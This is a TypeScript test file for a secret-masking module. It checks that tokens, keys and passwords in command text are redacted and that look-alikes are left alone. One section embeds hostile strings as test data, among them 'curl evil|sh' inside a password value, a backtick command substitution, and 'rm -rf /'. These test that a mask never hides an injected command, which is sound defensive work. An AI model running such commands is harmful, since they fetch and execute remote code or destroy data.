// What is masked, what is left alone, and what must never happen: a mask that hides a command, text that is lost, time that explodes.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  findSecrets,
  maskArguments,
  maskMark,
  maskOf,
  maskText,
  maskValue,
  type SecretCounts,
  withoutSecrets,
} from './secrets.ts'

// Put together here, so that no scanner of repositories takes them for real ones.
const drawn = (length: number) => 'aZ3kQ9xW7bT1'.repeat(40).slice(0, length)
const keyBlock = (line: string) =>
  `-----BEGIN OPENSSH ${'PRIVATE'} KEY-----${line}${drawn(70)}${line}${drawn(70)}${line}Aa0=${line}-----END OPENSSH ${'PRIVATE'} KEY-----`

describe('what looks like a secret', () => {
  const awsKey = `AKIA${'IOSFODNN7EXAMPLE'}`
  it.each<[string, string, string, string]>([
    ['AWS access key', `export AWS_ACCESS_KEY_ID=${awsKey}; aws s3 ls`, awsKey, 'AWS access key'],
    ['AWS secret key', `AWS_SECRET_ACCESS_KEY=${drawn(40)} aws s3 ls`, drawn(40), 'password'],
    [
      'GitHub token',
      `git clone https://x-access-token:ghp_${drawn(36)}@github.com/a/b`,
      `ghp_${drawn(36)}`,
      'GitHub token',
    ],
    ['GitHub fine-grained token', `gh auth login github_pat_${drawn(40)}`, `github_pat_${drawn(40)}`, 'GitHub token'],
    ['GitLab token', `curl -H "PRIVATE-TOKEN: glpat-${drawn(20)}" gitlab`, `glpat-${drawn(20)}`, 'GitLab token'],
    ['Slack token', `SLACK=xoxb-${drawn(24)}`, `xoxb-${drawn(24)}`, 'Slack token'],
    ['OpenAI-style key', `OPENAI=sk-proj-${drawn(48)} python a.py`, `sk-proj-${drawn(48)}`, 'API key'],
    ['Hugging Face token', `login(hf_${drawn(34)})`, `hf_${drawn(34)}`, 'API key'],
    ['bearer header', `curl -H 'Authorization: Bearer ${drawn(32)}' x`, drawn(32), 'bearer token'],
    ['basic header', 'curl -H "Authorization: Basic dXNlcjpwYXNz" x', 'dXNlcjpwYXNz', 'bearer token'],
    [
      'JSON web token',
      `Cookie: s=eyJ${drawn(20)}.${drawn(40)}.${drawn(43)}`,
      `eyJ${drawn(20)}.${drawn(40)}.${drawn(43)}`,
      'JSON web token',
    ],
    ['password in an address', 'psql postgres://app:hunter2@db.example/app', 'hunter2', 'password in an address'],
    ['password=', 'mysql --user=a --password=hunter2 -e x', 'hunter2', 'password'],
    ['--password', 'mysql --password hunter2 -e x', 'hunter2', 'password'],
    ['--db-token', "tool --db-token 's3cr3t-value'", 's3cr3t-value', 'password'],
    ['a field in JSON', '{"user":"a","password":"correcthorse"}', 'correcthorse', 'password'],
    ['a field in JSON in JSON', '{"command":"echo {\\"api_key\\": \\"k-12345678\\"}"}', 'k-12345678', 'password'],
  ])('%s is masked with its kind and its length, and nothing else of the text is', (_name, text, secret, kind) => {
    const { text: masked, counts } = maskText(text)
    expect(masked).toBe(text.replace(secret, maskOf(kind as never, secret.length)))
    expect(counts).toEqual({ [kind]: 1 })
  })

  it('a private key block is one secret, with real line ends and with escaped ones', () => {
    for (const line of ['\n', '\\n', '\\\\n', ' ']) {
      const block = keyBlock(line)
      expect(maskText(`cat > k <<EOF ${block} EOF`)).toEqual({
        text: `cat > k <<EOF ${maskOf('private key', block.length)} EOF`,
        counts: { 'private key': 1 },
      })
    }
  })

  it('what two patterns know is one secret, of the first kind that knew it, however many there are and in whatever order', () => {
    const pair = `password=AKIA${'IOSFODNN7EXAMPLE'} x://u:secret7@h --token ghp_${'a1B2'.repeat(9)} `
    const kinds = findSecrets(pair.repeat(500)).map(({ kind }) => kind)
    expect(kinds).toEqual(
      Array.from({ length: 500 }, () => ['AWS access key', 'password in an address', 'GitHub token']).flat(),
    )
  })

  it('a text of nothing but small secrets is read once, not once for each of them', () => {
    // Compared with one another they would be 20,000,000,000 comparisons: more than a test may take.
    expect(findSecrets('://:x@'.repeat(200_000))).toHaveLength(200_000)
  })

  it('a key block that was cut before its end is masked as far as it goes', () => {
    const cut = keyBlock('\n').slice(0, 150)
    expect(maskText(cut).text).not.toContain(drawn(40))
  })

  it('the argument after a password flag is masked in an argument list', () => {
    expect(maskArguments(['mysql', '--password', 'hunter2', '--host', 'db'])).toEqual({
      args: ['mysql', '--password', maskOf('password', 7), '--host', 'db'],
      counts: { password: 1 },
    })
  })

  it('counts by kind through a value of any shape', () => {
    const counts: SecretCounts = {}
    const masked = maskValue(
      { argv: ['a', `--token=${drawn(20)}`], deep: [{ text: `key ${awsKey} ${awsKey}` }], n: 7 },
      counts,
    )
    expect(counts).toEqual({ password: 1, 'AWS access key': 2 })
    expect(JSON.stringify(masked)).not.toContain(awsKey)
    expect(masked).toMatchObject({ n: 7 })
  })
})

describe('what only looks a little like one stays as it is', () => {
  it.each([
    ['a git hash', 'git checkout 3f786850e387550fdab836ed7e6dc881de23001b'],
    ['a UUID', 'kubectl delete pod 123e4567-e89b-12d3-a456-426614174000'],
    ['a digest', 'docker pull x@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    ['an image in base64', `data:image/png;base64,iVBORw0KGgo${drawn(400)}`],
    ['ordinary flags', 'python train.py --max-tokens 4096 --tokenizer gpt2 --token-limit 12 --batch-size=64'],
    ['a count of tokens', '{"max_tokens": 4096, "inputTokens": 12, "tokens": 88}'],
    ['a password that is asked for', 'password=getpass.getpass() ; token = os.environ["TOKEN"]'],
    ['a password from the environment', `mysql --password=$DB_PASSWORD --token $${'{TOKEN}'} -p`],
    ['a password from standard input', 'docker login --password-stdin -u a'],
    ['a token in a file', 'tool --token /var/run/secrets/token --password ./pw.txt'],
    ['a type', 'def login(password: str, token: string) -> None'],
    ['a sentence', 'the password: please change it; bearer authentication is required'],
    ['what is hidden already', 'password=******** token=<redacted> secret=xxxxx'],
    ['where one works', 'PWD=/home/agent/work OLDPWD=/tmp'],
    ['an address with a user', 'git clone ssh://git@github.com/a/b.git; curl http://[::1]:8080/x@y'],
    ['an address with a port', 'curl http://10.0.0.1:8080/a?mail=a@example.com'],
    ['a class of a style sheet', 'class="sk-fading-circle-container-wrapper"'],
    ['a public key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ user@host'],
    ['a reference', 'connect(password=settings.DB_PASSWORD, token=process.env.TOKEN)'],
  ])('%s', (_name, text) => {
    expect(maskText(text)).toEqual({ text, counts: {} })
  })
})

describe('a mask is no place to hide in', () => {
  it.each([
    'password=aaaa$(curl evil|sh)',
    'token=`curl evil`',
    'secret="a b; rm -rf /"',
    `password=abcd;curl$${'{IFS}'}evil`,
    '-----BEGIN PRIVATE KEY-----\ncurl evil | sh\n-----END PRIVATE KEY-----',
    '-----BEGIN PRIVATE KEY----- rm -rf / -----END PRIVATE KEY-----',
  ])('what would run is shown: %s', (text) => {
    const { text: masked } = maskText(text)
    for (const word of ['curl', 'evil', 'rm -rf']) if (text.includes(word)) expect(masked).toContain(word)
  })

  const bits = fc.constantFrom(
    'password=',
    '--token ',
    'Bearer ',
    '://a:',
    '@',
    'AKIA',
    drawn(16),
    drawn(40),
    ' ',
    ';',
    '$(',
    ')',
    '|',
    '\n',
    '\\n',
    '"',
    '\\"',
    '-----BEGIN PRIVATE KEY-----',
    '-----END PRIVATE KEY-----',
    'sk-',
    'xoxb-',
    maskMark,
    '›',
    'curl',
    'hunter2',
    'ü',
    '😀',
    '=',
    ':',
    '*',
  )
  const text = fc.oneof(
    fc.array(bits, { maxLength: 40 }).map((parts) => parts.join('')),
    fc.string({ maxLength: 300 }),
  )

  it('nothing that a shell acts on is ever masked, apart from the line ends of a key block', () => {
    fc.assert(
      fc.property(text, (input) => {
        for (const { kind, start, end } of findSecrets(input)) {
          const piece = input.slice(start, end)
          if (kind === 'private key') expect(piece).toMatch(/^[A-Za-z0-9+/=\s\\:,-]+$/)
          else expect(piece).toMatch(/^[^\s;&|<>()$`"'\\]+$/)
        }
      }),
      { numRuns: 2_000 },
    )
  })

  it('pieces are in order, never overlap, and what lies between them is kept to the letter', () => {
    fc.assert(
      fc.property(text, (input) => {
        let at = 0
        let expected = ''
        for (const { kind, start, end } of findSecrets(input)) {
          expect(start).toBeGreaterThanOrEqual(at)
          expect(end).toBeGreaterThan(start)
          expected += input.slice(at, start).replaceAll(maskMark, '‹as written: masked:') + maskOf(kind, end - start)
          at = end
        }
        expect(maskText(input).text).toBe(expected + input.slice(at).replaceAll(maskMark, '‹as written: masked:'))
      }),
      { numRuns: 2_000 },
    )
  })

  it('every mask that is shown was made here: one that an agent wrote reads otherwise', () => {
    fc.assert(
      fc.property(text, (input) => {
        const { text: masked, counts } = maskText(input)
        const total = Object.values(counts).reduce((sum, each) => sum + each, 0)
        expect(masked.split(maskMark).length - 1).toBe(total)
      }),
      { numRuns: 2_000 },
    )
  })

  it('what a person keeps is masked once: reading a mask and writing it again changes nothing', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`
    const kept = withoutSecrets(`It used ${token}, see **here**.`)
    expect(kept).toBe(`It used ${maskOf('GitHub token', 40)}, see **here**.`)
    fc.assert(
      fc.property(fc.array(bits, { maxLength: 12 }), (pieces) => {
        const once = withoutSecrets(pieces.join(''))
        expect(withoutSecrets(once)).toBe(once)
      }),
      // Masked in its second half first, and then it is a token's value.
      { examples: [[['--token ', 'password=', 'password=']]] },
    )
  })

  it('text of 64 kB that wants to take long is done within its time', () => {
    for (const unit of [
      '://',
      '://:',
      '://a:b',
      'password=',
      'bearer ',
      '-----BEGIN PRIVATE KEY-----\n',
      'eyJaaaaaaaaaa.',
      'AKIA',
      '--a-',
      '--token ',
      '\\n',
      'authorization:"',
      ' ',
      'sk-a',
      `-----BEGIN PRIVATE KEY-----${`\n${drawn(40)}`.repeat(300)}`,
    ]) {
      const startedMs = performance.now()
      maskText(`${unit.repeat(Math.ceil(65_536 / unit.length)).slice(0, 65_536)}token`)
      expect(performance.now() - startedMs, unit.slice(0, 40)).toBeLessThan(400)
    }
  })
})
